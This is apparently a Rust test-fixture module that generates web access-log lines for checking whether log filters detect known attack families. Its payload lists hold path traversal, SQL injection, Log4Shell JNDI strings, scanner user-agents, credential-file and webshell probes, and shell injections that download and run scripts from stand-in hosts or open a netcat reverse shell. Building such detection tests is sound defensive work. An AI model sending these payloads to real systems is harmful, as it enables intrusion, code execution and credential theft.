//! Publicly known payloads by family, as scanners, worms and textbooks send them, each in several
//! spellings and places. Written from what attacks look like and not from the patterns, so that
//! some may be missed; must not know the filters beyond their names.

use super::line::Request;

/// Who attacks in every line.
pub(crate) const CLIENT: &str = "203.0.113.7";
const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36";

pub(crate) struct Attack {
    /// The filter that must name it.
    pub(crate) family: &'static str,
    target: String,
    status: u16,
    referer: String,
    user_agent: String,
}

impl Attack {
    pub(crate) fn line(&self) -> String {
        let request = Request {
            client: CLIENT,
            method: "GET",
            target: self.target.as_bytes(),
            status: self.status,
            bytes: 153,
            referer: self.referer.as_bytes(),
            user_agent: self.user_agent.as_bytes(),
        };
        request.line()
    }
}

fn attack(family: &'static str, target: impl Into<String>, status: u16) -> Attack {
    Attack { family, target: target.into(), status, referer: String::new(), user_agent: BROWSER.to_owned() }
}

/// As `encodeURIComponent` does it.
fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.!~*'()".contains(&byte);
    text.bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// Everything but letters and digits, in small letters.
fn wholly_encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric();
    text.bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02x}") })
        .collect()
}

pub(crate) fn corpus() -> Vec<Attack> {
    let mut all = Vec::new();
    for payload in TRAVERSAL {
        all.push(attack("path-traversal", *payload, 400));
    }
    for up in [
        "../",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "..\\",
        "..%5c",
        "....//",
        "..%c0%af",
        "%252e%252e%252f",
    ] {
        for file in ["etc/passwd", "windows/win.ini", "proc/self/environ"] {
            all.push(attack("path-traversal", format!("/download.php?file={}{file}", up.repeat(4)), 200));
        }
    }
    for payload in SQL {
        all.push(attack("sql-injection", format!("/item.php?id={}", payload.replace(' ', "%20")), 200));
        all.push(attack("sql-injection", format!("/item.php?cat=3&id={}", encoded(payload)), 500));
        all.push(attack(
            "sql-injection",
            format!("/list?id={}&page=2", wholly_encoded(payload).replace("%20", "+")),
            200,
        ));
    }
    for payload in SHELL {
        all.push(attack(
            "shell-injection",
            format!("/cgi-bin/ping.cgi?host={}", payload.replace(' ', "+")),
            200,
        ));
        all.push(attack("shell-injection", format!("/diag?addr={}", encoded(payload)), 200));
    }
    for target in SHELL_TARGETS {
        all.push(attack("shell-injection", *target, 500));
    }
    for payload in LOG4J {
        all.push(attack("log4shell", format!("/?x={payload}"), 200));
        all.push(attack("log4shell", format!("/login?u={}", encoded(payload)), 200));
        all.push(Attack { user_agent: (*payload).to_owned(), ..attack("log4shell", "/", 200) });
        all.push(Attack { referer: (*payload).to_owned(), ..attack("log4shell", "/", 200) });
    }
    for user_agent in SCANNERS {
        all.push(Attack { user_agent: (*user_agent).to_owned(), ..attack("scanners", "/", 200) });
    }
    for (family, status, targets) in [
        ("dot-files", 404, DOT_FILES),
        ("admin-probes", 404, ADMIN),
        ("webshells", 404, SHELLS),
        ("wordpress-probes", 404, WORDPRESS),
    ] {
        all.extend(targets.iter().map(|target| attack(family, *target, status)));
    }
    all
}

const TRAVERSAL: &[&str] = &[
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fshadow",
    "/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/hosts",
    "/static//////../../../../etc/passwd",
    "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
    "/..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/%5c..%5c..%5cboot.ini",
    "/plugins/x/../../../../../../../../etc/passwd",
    "/public/plugins/alertlist/../../../../../../../../var/lib/grafana/grafana.db",
    "/index.php?page=php://filter/convert.base64-encode/resource=config.php",
    "/index.php?file=php%3A%2F%2Finput",
    "/?lang=expect://id",
    "/?page=data://text/plain;base64,PD9waHA=",
    "/?f=phar://uploads/a.jpg",
    "/?page=/etc/passwd",
    "/?file=/etc/passwd%00.jpg",
    "/?path=/proc/self/environ",
    "/?template=/proc/self/cmdline",
    "/view.php?page=C:\\windows\\win.ini",
    "/?page=file:///etc/shadow",
    "/app/..;/manager/html",
    "/..;/..;/..;/etc/passwd",
    "/@fs/etc/passwd?import&raw??",
    "/@fs/root/.ssh/id_rsa?raw",
    "/etc/passwd",
    "/loleaflet/../../../../../../etc/passwd",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    "/vpn/../vpns/cfg/smb.conf?x=../../../../../etc/passwd",
    "/?include=....//....//....//....//etc/passwd",
    "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/%252e%252e/%252e%252e/%252e%252e/etc/passwd",
    "/?url=../../../../../../../../../../x",
    "/images/..%255c..%255c..%255cwinnt/repair/sam",
    "/webui/../../../../WEB-INF/web.xml",
    "/res/..%252f..%252fWEB-INF/web.xml",
    "/theme/..%c1%9c..%c1%9cwinnt",
    "/?doc=..%2f..%2f..%2f..%2f.env",
];
const SQL: &[&str] = &[
    "1 UNION SELECT 1,2,3",
    "-1 UNION ALL SELECT NULL,NULL,NULL-- -",
    "1' UNION SELECT user(),database(),version()#",
    "-1' union select 1,group_concat(table_name),3 from information_schema.tables--+",
    "1 union select 0x414243,2",
    "1/**/union/**/all/**/select/**/1,2",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "1) UNION SELECT concat(0x7e,version()),2-- -",
    "1 OR 1=1",
    "1' OR '1'='1",
    "1' or 1=1-- -",
    "admin'-- ",
    "admin' #",
    "1') or ('1'='1",
    "1\" or \"1\"=\"1",
    "x' or 'x'='x",
    "1 AND 1=2",
    "1' AND 5=5 AND 'a'='a",
    "1 or 2>1",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)-- -",
    "1;SELECT pg_sleep(10)--",
    "1' WAITFOR DELAY '0:0:5'--",
    "1; WAITFOR DELAY '0:0:10'--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "(SELECT(0)FROM(SELECT(SLEEP(6)))v)",
    "1'||(SELECT(1))||'",
    "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x71))s),8,8)))",
    "1 AND EXTRACTVALUE(1,CONCAT(0x5c,0x7178))",
    "1 AND UPDATEXML(1,CONCAT(0x7e,USER()),1)",
    "1' ORDER BY 10-- -",
    "1 ORDER BY 50#",
    "1 HAVING 1=1",
    "1'; DROP TABLE users-- -",
    "1; EXEC master..xp_cmdshell 'dir'--",
    "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
    "1' AND (SELECT COUNT(*) FROM users)>0-- -",
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "1 UNION SELECT load_file('/etc/passwd')",
    "1' INTO OUTFILE '/var/www/x.php'-- -",
    "1 AND 1234=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM x)",
    "1' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,1)),1)-- -",
];
const SHELL: &[&str] = &[
    "127.0.0.1;cat /etc/passwd",
    "127.0.0.1|cat /etc/shadow",
    "127.0.0.1;wget http://198.51.100.9/x.sh -O /tmp/x",
    "1;curl -s http://198.51.100.9/a|sh",
    "`wget http://198.51.100.9/b`",
    "$(curl http://198.51.100.9/c)",
    "1;whoami;",
    "1|uname -a",
    "$(id)",
    "`id`",
    "1;rm -rf /tmp/*",
    "1;cd /tmp;chmod 777 a;./a",
    "1|ping -c 5 198.51.100.9",
    "1;nslookup x.evil.example",
    "1;bash -i",
    "1;/bin/sh -c id",
    "1|powershell -enc AAAA",
    "1;nc 198.51.100.9 4444 -e /bin/sh",
    "1;sleep 10",
    "1;ls -la",
    "1;busybox telnetd",
    "1;python3 -c 'import os'",
    "1;tftp -g -r m 198.51.100.9",
    "x;cat${IFS}/etc/passwd",
];
const SHELL_TARGETS: &[&str] = &[
    "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws;sh+/tmp/jaws",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://x/m+-O+/tmp/m;sh+m&curpath=/",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/lib/phpunit/Util/PHP/eval-stdin.php",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
    "/?a=fetch&content=%3C%3Fphp+die(%40md5(HelloThinkCMF))%3B%3F%3E",
    "/?x=<?php+system($_GET[1]);?>",
    "/?search={{7*7}}",
    "/?name=%7B%7B7*%277%27%7D%7D",
    "/?q=${7*7}",
    "/?t=<%25=7*7%25>",
    "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
    "/struts2-showcase/%25%7b%28%23_memberAccess%3d1%29%7d/x.action",
    "/?redirect:${%23a%3d1}",
    "/?class.module.classLoader.DefaultAssertionStatus=1",
    "/functionRouter?x=T(java.lang.Runtime).getRuntime().exec(%22id%22)",
    "/picsdesc.xml",
    "/tmUnblock.cgi",
    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20/tmp",
    "/GponForm/diag_Form?style/",
    "/goform/set_LimitClient_cfg?x=1",
    "/scripts/root.exe?/c+dir",
    "/winnt/cmd.exe?/c+dir",
    "/?cmd=cat+/etc/passwd",
    "/x.php?exec=uname+-a",
    "/api?x={{''.__class__.__mro__}}",
    "/?f=assert($_POST[1])",
];
const LOG4J: &[&str] = &[
    "${jndi:ldap://198.51.100.9:1389/a}",
    "${jndi:rmi://198.51.100.9/a}",
    "${jndi:dns://x.evil.example}",
    "${JNDI:LDAP://x/a}",
    "${${lower:j}ndi:ldap://x/a}",
    "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
    "${j${lower:n}di:ldap://x/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x/a}",
    "${jndi:${lower:l}${lower:d}ap://x/a}",
    "${${upper:j}ndi:ldap://x/a}",
    "${${date:'j'}ndi:ldap://x/a}",
    "${jndi:ldap://127.0.0.1#x.evil.example:1389/a}",
];
const SCANNERS: &[&str] = &[
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.22 (https://wpscan.org/)",
    "DirBuster-0.12 (http://www.owasp.org)",
    "gobuster/3.1.0",
    "Fuzz Faster U Fool v1.5.0",
    "feroxbuster/2.7.3",
    "Acunetix Web Vulnerability Scanner",
    "Mozilla/4.0 (compatible; Nessus; SSL)",
    "Mozilla/5.0 [en] (X11, U; OpenVAS 8.0.9)",
    "w3af.org",
    "Arachni/v1.5.1",
    "Mozilla/5.0 SF/2.10b skipfish",
    "ZmEu",
    "Wfuzz/2.4",
    "commix/3.4 (https://commixproject.com)",
    "WhatWeb/0.5.5",
    "Mozilla/5.0 (compatible; l9tcpid/v1.1.0)",
    "Havij",
    "Netsparker",
    "dirsearch",
    "Morfeus Fucking Scanner",
    "Mozilla/5.0 Jorgee",
    "TsunamiSecurityScanner",
    "joomscan",
    "Mozilla/4.0 (Hydra)",
];
const DOT_FILES: &[&str] = &[
    "/.env",
    "/.env.local",
    "/.env.bak",
    "/.env~",
    "/app/.env",
    "/core/.env",
    "/.git/config",
    "/.git/HEAD",
    "/site/.git/config",
    "/.svn/wc.db",
    "/.hg/hgrc",
    "/.aws/credentials",
    "/.aws/config",
    "/.ssh/id_rsa",
    "/.ssh/authorized_keys",
    "/.htpasswd",
    "/.htaccess",
    "/.vscode/sftp.json",
    "/.idea/workspace.xml",
    "/.npmrc",
    "/.docker/config.json",
    "/.kube/config",
    "/.bash_history",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/wp-config.php.old",
    "/.wp-config.php.swp",
    "/config.php.bak",
    "/web.config.bak",
    "/backup.sql",
    "/dump.sql",
    "/db.sql.gz",
    "/database.sql",
    "/backup.zip",
    "/www.zip",
    "/wwwroot.rar",
    "/site.tar.gz",
    "/id_rsa",
    "/server.key",
    "/docker-compose.yml",
    "/secrets.yml",
    "/credentials.json",
    "/WEB-INF/web.xml",
    "/%2eenv",
    "/.git%2fconfig",
    "/sftp-config.json",
    "/.s3cfg",
    "/.netrc",
    "/.terraform/terraform.tfstate",
    "/terraform.tfstate",
    "/.gitlab-ci.yml",
    "/.circleci/config.yml",
    "/.dockerenv",
    "/.composer/auth.json",
];
const ADMIN: &[&str] = &[
    "/phpmyadmin/index.php",
    "/phpMyAdmin/",
    "/pma/index.php",
    "/PMA2/",
    "/myadmin/",
    "/mysql/phpmyadmin/",
    "/phpmyadmin4.8.5/",
    "/phpMyAdmin-5.1.1-all-languages/",
    "/dbadmin/",
    "/adminer.php",
    "/adminer-4.7.8-mysql-en.php",
    "/manager/html",
    "/host-manager/html",
    "/solr/admin/cores?wt=json",
    "/solr/",
    "/actuator/env",
    "/actuator/gateway/routes",
    "/api/actuator/heapdump",
    "/HNAP1/",
    "/boaform/admin/formLogin?username=ec8",
    "/owa/auth/logon.aspx",
    "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
    "/remote/login",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/dana-na/auth/url_default/welcome.cgi",
    "/+CSCOE+/logon.html",
    "/global-protect/login.esp",
    "/vpn/index.html",
    "/tmui/login.jsp",
    "/mgmt/tm/util/bash",
    "/jenkins/script",
    "/console/login/LoginForm.jsp",
    "/wls-wsat/CoordinatorPortType",
    "/_async/AsyncResponseService",
    "/jmx-console/",
    "/invoker/JMXInvokerServlet",
    "/axis2/axis2-admin/",
    "/nacos/v1/console/server/state",
    "/druid/index.html",
    "/geoserver/web/",
    "/v2/_catalog",
    "/_cat/indices",
    "/containers/json",
    "/_all_dbs",
    "/telescope/requests",
    "/_ignition/execute-solution",
    "/_profiler/phpinfo",
    "/phpinfo.php",
    "/server-status",
    "/debug/default/view?panel=config",
    "/cgi-bin/luci",
    "/goform/webLogin",
    "/ISAPI/Security/users",
    "/SDK/webLanguage",
    "/stalker_portal/server/tools/auth_simple.php",
    "/zabbix/index.php",
    "/latest/meta-data/iam/security-credentials/",
    "/autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@x.example",
];
const SHELLS: &[&str] = &[
    "/c99.php",
    "/r57.php",
    "/wso.php",
    "/wso2.5.php",
    "/alfa.php",
    "/alfanew.php",
    "/ALFA_DATA/alfacgiapi/bash.alfa",
    "/b374k.php",
    "/indoxploit.php",
    "/shell.php",
    "/cmd.php",
    "/wp-content/uploads/2023/x.php",
    "/.well-known/acme-challenge/cloud.php",
    "/.well-known/about.php",
    "/aspnet_client/supp0rt.aspx",
    "/images/upload.phtml",
    "/marijuana.php",
    "/gel4y.php",
    "/foxwso.php",
    "/1337.php",
    "/wp-includes/images/index.php",
    "/tomcatwar.jsp",
    "/jspspy.jsp",
    "/aspxspy.aspx",
    "/xleet.php",
    "/leafmailer.php",
    "/uploads/cmd.jsp",
    "/radio.php",
    "/wp-conflg.php",
    "/bypass.php",
];
const WORDPRESS: &[&str] = &[
    "/wp-login.php",
    "/wp-admin/",
    "/wp-admin/install.php",
    "/wordpress/wp-admin/setup-config.php",
    "/blog/wp-login.php",
    "/xmlrpc.php?rsd",
    "//wp-includes/wlwmanifest.xml",
    "/cms/wp-includes/wlwmanifest.xml",
    "/wp-json/wp/v2/users",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/wp-content/debug.log",
    "/wp-admin/admin-ajax.php?action=revslider_show_image",
    "/wp/wp-admin/",
    "/wp-content/plugins/duplicator/readme.txt",
    "/2019/wp-includes/wlwmanifest.xml",
];
